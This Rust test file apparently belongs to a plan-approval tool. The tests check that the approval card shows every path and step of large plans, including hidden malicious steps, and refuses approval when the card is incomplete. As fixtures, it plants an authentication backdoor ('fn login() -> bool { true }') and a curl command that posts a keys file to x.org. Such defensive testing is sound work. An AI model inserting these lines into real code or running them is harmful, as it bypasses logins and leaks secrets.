//! Cards that would leave out what a yes is a yes to: an element among a hundred, and more paths than anybody reads.

use crate::place::Place;
use crate::terminal::{Act, on_terminal};

/// A text without what breaks its lines.
fn squeezed(text: &str) -> String {
    text.split_whitespace().collect()
}

#[test]
fn an_element_that_does_something_else_is_on_the_card() {
    let place = Place::new();
    let mut names: Vec<String> = (100..220).map(|number| format!("out/a{number}.txt")).collect();
    names.push("src/auth.rs".into());
    for name in &names {
        place.put(name, "old\n");
    }
    place.put("names.txt", names.join("\n") + "\n");
    for (text, lines) in [("generated\\n", 110), ("generated for ${name}\\n", 260)] {
        place.put(
            "p.pl",
            format!(
                r#"plan "Refresh the footers" {{
  critical {{
    modify "{{out,src}}/**"
  }}
  step l = fs.read(path: "names.txt")
  each c = name in l.text.lines() {{
    step w = fs.write(path: name, text: if name.starts_with("src") then "fn login() -> bool {{ true }} // EVIL\n" else "{text}")
  }}
}}
"#
            ),
        );
        let said = place.planc(&["plan", "p.pl"]).exits(0);
        let drawn = squeezed(&said.out);
        for name in &names {
            assert!(drawn.contains(name), "{name} is not on the card\n{}", said.out);
        }
        assert!(said.out.contains("+fn login() -> bool { true } // EVIL"), "{}", said.out);
        assert!(said.out.lines().count() <= lines, "{}", said.out);
    }
}

/// A plan of a hundred steps, and what its card must show of each; with a step in the midst that does something else.
fn hundred(
    step: impl Fn(usize) -> String,
    shows: impl Fn(usize) -> String,
    else_: (&str, &str),
) -> (String, Vec<String>) {
    let steps = (0..100).map(|number| match number {
        57 => else_.0.to_owned(),
        _ => step(number),
    });
    let shown = (0..100).map(|number| if number == 57 { else_.1.to_owned() } else { shows(number) });
    let critical = "create \"out/**\"\n run \"make\"\n run \"curl\"";
    let steps = steps.collect::<Vec<_>>().join("\n");
    (format!("plan \"Hundred\" {{\n critical {{\n {critical}\n }}\n{steps}\n}}\n"), shown.collect())
}

#[test]
fn a_hundred_steps_of_any_kind_fit_on_two_screens_and_hide_nothing() {
    let curl = (
        "step evil = process.run(argv: [\"curl\", \"-d\", \"@keys\", \"x.org\"])",
        "evil = process.run(argv: [\"curl\", \"-d\", \"@keys\", \"x.org\"])",
    );
    let input = ("step evil = process.run(argv: [\"make\", \"t57\"], stdin: \"EVIL\")", "stdin: \"EVIL\"");
    let write = |number| format!("step w{number} = fs.write(path: \"out/{number}\", text: \"row {number}\")");
    let make = |number| format!("step p{number} = process.run(argv: [\"make\", \"t{number}\"])");
    let made = |number| format!("p{number} = process.run(argv: [\"make\", \"t{number}\"])");
    let read = |number| {
        format!(
            "step r{number} = fs.read(path: \"in/{number}\")\nstep w{number} = fs.write(path: \"out/{number}\", text: r{number}.text)"
        )
    };
    let path = |number| format!("out/{number}");
    for (what, (plan, shown), most) in [
        ("programs", hundred(make, made, curl), 125),
        ("programs, one with an input", hundred(make, made, input), 130),
        ("changes after a program", hundred(write, path, curl), 140),
        ("reads and writes", hundred(read, path, curl), 180),
    ] {
        let place = Place::new();
        for number in 0..100 {
            place.put(&format!("in/{number}"), format!("text {number}\n"));
        }
        place.put("p.pl", plan);
        let said = place.planc(&["plan", "p.pl"]).exits(0);
        let drawn = squeezed(&said.out);
        for shown in shown {
            assert!(drawn.contains(&squeezed(&shown)), "{what}: {shown} is not on the card\n{}", said.out);
        }
        assert!(said.out.lines().count() <= most, "{what}: {} lines\n{}", said.out.lines().count(), said.out);
    }
}

#[test]
fn the_hint_of_a_part_names_the_part() {
    let place = Place::new();
    place.put(
        "p.pl",
        "plan \"P\" {\n  critical {\n    create \"*\"\n  }\n  step a = fs.write(path: \"a\", text: \"x\")\n  step b = fs.write(path: \"b\", text: \"x\")\n}\n",
    );
    for form in ["text", "markdown", "html"] {
        place.planc(&["plan", "--only", "a", "p.pl", "--format", form]).exits(0).says("--only a p.pl");
        place.planc(&["plan", "--except", "a", "p.pl", "--format", form]).exits(0).says("--except a p.pl");
    }
    let said = place.planc(&["plan", "--only", "a", "p.pl"]).exits(0).says("  planc run --approve --only a p.pl\n");
    drop(said);
    place.planc(&["run", "--approve", "--only", "a", "p.pl"]).exits(0);
    assert!(place.has("a") && !place.has("b"));
}

#[test]
fn nobody_is_asked_about_a_card_that_is_not_whole() {
    let place = Place::new();
    place.put("names.txt", (0..2001).map(|number| format!("out/{}/{number}\n", number % 3)).collect::<String>());
    place.put(
        "p.pl",
        "plan \"Many\" {\n  critical {\n    create \"out/**\"\n  }\n  step l = fs.read(path: \"names.txt\")\n  each c = name in l.text.lines() {\n    step w = fs.write(path: name, text: \"x\\n\")\n  }\n}\n",
    );
    let said =
        place.planc(&["plan", "p.pl"]).exits(0).says("This card is not whole").says("planc run --approve --full p.pl");
    assert!(said.out.lines().count() < 150, "{}", said.out);
    assert!(said.out.contains("… create 665 paths in out/0"), "{}", said.out);
    assert!(!said.out.contains("--approve=sha256"), "{}", said.out);
    let question = "Only `yes` is a yes: ";
    let (code, shown) = on_terminal(&place, &["run", "--approve", "p.pl"], question, &Act::Type(b"yes\n"));
    assert_eq!(code, 3, "{shown}");
    assert!(shown.contains("its card is not whole") && !shown.contains(question), "{shown}");
    let (code, shown) = on_terminal(&place, &["run", "--approve", "--full", "p.pl"], question, &Act::Type(b"no\n"));
    assert_eq!(code, 3, "{shown}");
    assert!(shown.contains("out/2/2000"), "all of it was shown");
    assert!(!place.has("out"));
}

#[test]
fn what_becomes_executable_is_on_the_card_of_a_long_plan() {
    let place = Place::new();
    let steps: String = (0..45)
        .map(|n| format!("  step m{n} = fs.write(path: \"out/{n}.sh\", text: \"{n}\\n\", executable: {})\n", n == 30))
        .collect();
    place.put("p.pl", format!("plan \"many\" {{\n  critical {{ create \"out/**\" }}\n{steps}}}\n"));
    let said = place.planc(&["plan", "p.pl"]).exits(0);
    let line = said.out.lines().find(|line| line.contains("out/30.sh")).expect("it is on the card");
    assert!(line.contains("mode 0755"), "{line}");
    assert_eq!(
        said.out.matches("lines, mode 0755").count() + said.out.matches("(+1 -0, mode 0755)").count(),
        1,
        "{}",
        said.out
    );
}
